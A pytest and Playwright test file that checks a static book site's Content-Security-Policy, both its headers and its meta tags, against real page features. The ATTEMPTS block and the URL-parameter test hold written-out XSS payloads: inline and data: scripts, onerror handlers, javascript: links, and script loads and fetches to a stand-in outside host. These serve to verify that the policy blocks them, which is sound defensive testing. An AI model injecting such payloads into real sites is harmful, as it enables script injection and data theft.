"""The site's security policy: everything the site does works under it, and what somebody slips in does not."""

from __future__ import annotations

import re
from collections.abc import Iterator
from fnmatch import fnmatchcase

import book_security  # _ext/book_security.py
import pytest
from browser import until  # tools/browser.py
from playwright.sync_api import Page
from site_server import SITE, CompressingHandler, pages, serving  # tools/site_server.py

import byhand

WATCH = """
  window.blocked = [];
  document.addEventListener("securitypolicyviolation", (event) =>
    window.blocked.push(`${event.violatedDirective}: ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));
"""
TAG = re.compile(r"<[a-z][^\s/>]*((?:\s+[^\s=>\"]+(?:=(?:\"[^\"]*\"|'[^']*'))?)*)\s*/?>", re.IGNORECASE)


def rules() -> dict[str, dict[str, str]]:
    """Return what the file _headers says: for each pattern of paths, the headers of the answer."""
    found: dict[str, dict[str, str]] = {}
    for line in (SITE / "_headers").read_text(encoding="utf-8").splitlines():
        if line.startswith("/"):
            found[line] = rule = {}
        else:
            name, _, value = line.strip().partition(": ")
            rule[name] = value
    return found


def headers_of(path: str) -> dict[str, str]:
    """Return the headers of the answer for a path, joined as hosts join what several rules say."""
    joined: dict[str, str] = {}
    for pattern, rule in rules().items():
        if fnmatchcase(path, pattern):
            for name, value in rule.items():
                joined[name] = f"{joined[name]}, {value}" if name in joined else value
    return joined


class HeadedHandler(CompressingHandler):
    """Serves the site as a host does that reads its file _headers."""

    def end_headers(self) -> None:
        """Add the headers of the file."""
        for name, value in headers_of(self.path.partition("?")[0]).items():
            self.send_header(name, value)
        super().end_headers()


@pytest.fixture(scope="module")
def headed() -> Iterator[str]:
    """Yield the address of the site on a host that reads _headers."""
    with serving(handler=HeadedHandler) as address:
        yield address


@pytest.fixture
def watched(page: Page) -> Page:
    """Return a page that notes what the policy blocks."""
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.add_init_script(WATCH)
    return page


def blocked(page: Page) -> list[str]:
    """Return what the policy has blocked on the page so far."""
    return page.evaluate("window.blocked")


def test_every_page_carries_the_policy_before_anything_it_governs():
    """Right after the encoding; nothing in a tag that it would block, and no weaker word in it than agreed."""
    for address in pages():
        html = (SITE / address).read_text(encoding="utf-8")
        before, _, rest = html.partition('<meta http-equiv="Content-Security-Policy" content="')
        policy = rest.partition('"')[0]
        assert not re.search("<(script|style|link|img)", before), address
        assert re.search("script-src 'self' 'wasm-unsafe-eval'( 'sha256-[^']*')*;", policy), address
        assert policy.startswith("default-src 'none'"), address
        names = [
            name for attributes in TAG.findall(html) for name in re.findall(r'\s([^\s="]+)=', attributes)
        ]
        assert [name for name in names if name.lower().startswith("on")] == [], address
        assert 'href="javascript:' not in html, address


def test_headers_say_the_same_and_more():
    """Pages, files and JupyterLite each get one policy, in lines as long as hosts accept."""
    for path in ("/", "/index.html", "/bibliography", "/chapters/convolution.html", "/_static/clicks.js"):
        headers = headers_of(path)
        assert headers["Content-Security-Policy"].startswith("default-src 'none'")
        assert headers["Content-Security-Policy"].endswith("frame-ancestors 'self'")
        assert headers["Content-Security-Policy"].count("default-src") == 1
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert {"Referrer-Policy", "Permissions-Policy"} <= set(headers)
    assert "immutable" in headers_of("/_pictures/0123.webp")["Cache-Control"]
    assert "Cache-Control" not in headers_of("/chapters/convolution.html")
    assert headers_of("/lite/lab/index.html")["Content-Security-Policy"] == book_security.LITE
    lines = (SITE / "_headers").read_text(encoding="utf-8").splitlines()
    assert max(map(len, lines)) < 2000
    assert len(rules()) <= 100


def test_a_chapter_does_all_it_does_under_the_policy(watched: Page, headed: str):
    """Explorer, copy button, theme, print and full-screen buttons, search by keyboard, and what search finds."""
    watched.goto(headed + "chapters/convolution.html", wait_until="load")
    watched.evaluate(
        """() => {
          window.clicked = [];
          for (const name of ["print", "toggleFullScreen"]) window[name] = () => window.clicked.push(name);
        }"""
    )
    picture = watched.locator("[data-explorer] img").first
    source = picture.get_attribute("src")
    watched.locator("[data-explorer] input[type=range]").first.press("ArrowRight")
    assert picture.get_attribute("src") != source

    watched.locator("div.highlight").first.hover()
    watched.locator("button.copybtn").first.click()
    until(watched, "navigator.clipboard.readText().then((text) => text.includes('import'))")

    switch = watched.locator("button.theme-switch-button:visible").first
    modes = {watched.evaluate("document.documentElement.dataset.mode")}
    for _ in range(2):
        switch.click()
        modes.add(watched.evaluate("document.documentElement.dataset.mode"))
    assert modes == {"auto", "light", "dark"}

    buttons = watched.locator("[data-click]").evaluate_all(
        "(all) => all.map((button) => { button.click(); return button.dataset.click.replace('window.', ''); })"
    )
    assert "print" in buttons
    assert watched.evaluate("window.clicked") == buttons

    watched.keyboard.press("Control+k")
    assert blocked(watched) == []
    watched.locator("#pst-search-dialog input").fill("receptive field")
    watched.keyboard.press("Enter")
    watched.wait_for_selector("#search-results li p.context")
    assert blocked(watched) == []
    watched.locator("#search-results li a").first.click()
    watched.wait_for_selector("article h1")
    assert blocked(watched) == []


def test_python_in_the_page_runs_under_the_policy(watched: Page, headed: str):
    """The worker is under the policy of its own answer's headers; and a solution's player plays."""
    watched.goto(headed + "chapters/practice/convolution.html", wait_until="load")
    watched.evaluate("document.querySelectorAll('details').forEach((details) => (details.open = true))")
    player = watched.locator("[data-player] input[type=range]").first
    player.press("ArrowRight")
    assert player.get_attribute("aria-valuetext").startswith("2 of")
    answer = "; ".join(f"{name} = {value}" for name, value in byhand.problem("A1").answer.items())
    problem = watched.locator("section[data-problem=A1]").first
    problem.locator("[name=answer]").fill(answer)
    problem.locator("button[name=check]").click()
    problem.locator("[data-kind=right]").wait_for()
    assert blocked(watched) == []


# Each attempt sets a mark where it succeeds. They are made from a task of the page itself, as an attack would be.
ATTEMPTS = """
  const add = (html) => document.body.insertAdjacentHTML("beforeend", html);
  const element = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
  window.marks = [];
  element("script", { textContent: "marks.push('inline script')" });
  add(`<img src="data:," onerror="marks.push('handler')">`);
  add(`<a id="link" href="javascript:marks.push('address')">x</a>`);
  document.getElementById("link").click();
  element("script", { src: "data:text/javascript,marks.push('data script')" });
  element("script", { src: "https://stranger.invalid/x.js" });
  element("style", { textContent: "body { --mark: 1 }" });
  element("iframe", { src: "/index.html" });
  element("object", { data: "/index.html" });
  try { eval("marks.push('eval')"); } catch {}
  try { new Function("marks.push('function')")(); } catch {}
  add(`<base href="https://stranger.invalid/">`);
  if (document.baseURI.includes("stranger")) marks.push("base");
  new Image().src = "https://stranger.invalid/x.png";
  try { new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage = () => marks.push("worker"); } catch {}
  fetch("https://stranger.invalid/").catch(() => {});
"""


def test_what_somebody_slips_in_does_nothing(watched: Page, server: str):
    """By the tag in the page alone: no script, style, frame or request that the page did not come with."""
    reached = []
    watched.route(
        "https://stranger.invalid/**", lambda route: (reached.append(route.request.url), route.abort())
    )
    watched.route("**/slipped.js", lambda route: route.fulfill(body=ATTEMPTS, content_type="text/javascript"))
    watched.goto(server + "chapters/practice/convolution.html", wait_until="load")
    watched.evaluate(
        """() => document.body.append(
             Object.assign(document.createElement("script"), { src: "/slipped.js", id: "slipped" }))"""
    )
    expected = {
        "script-src-elem",
        "script-src-attr",
        "script-src",
        "style-src-elem",
        "frame-src",
        "object-src",
        "base-uri",
        "img-src",
        "worker-src",
        "connect-src",
    }
    names = "new Set(window.blocked.map((line) => line.split(':')[0]))"
    until(watched, f"{names}.size >= {len(expected)}")
    assert set(watched.evaluate(f"[...{names}]")) == expected
    assert watched.evaluate("window.marks") == []
    assert watched.evaluate("getComputedStyle(document.body).getPropertyValue('--mark')") == ""
    assert reached == []


@pytest.mark.parametrize(
    "place",
    ["search.html?q={}", "search.html?q=kernel&highlight={}", "chapters/activations.html?highlight={}#{}"],
)
def test_addresses_are_text(watched: Page, server: str, place: str):
    """A query, words to mark and an anchor that look like HTML stay what they are: text."""
    attempt = '"><img src=x onerror=document.title="slipped"><script>document.title="slipped"</script>'
    dialogs = []
    watched.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    watched.goto(server + place.format(*[attempt] * 2), wait_until="load")
    if "search" in place:
        watched.wait_for_selector("#search-results .search-summary:not(:empty)")
    if "q={}" in place:
        assert watched.locator("main input[name=q]").input_value() == attempt
    assert watched.locator("img[src=x]").count() == 0
    assert "slipped" not in watched.title()
    assert (blocked(watched), dialogs) == ([], [])
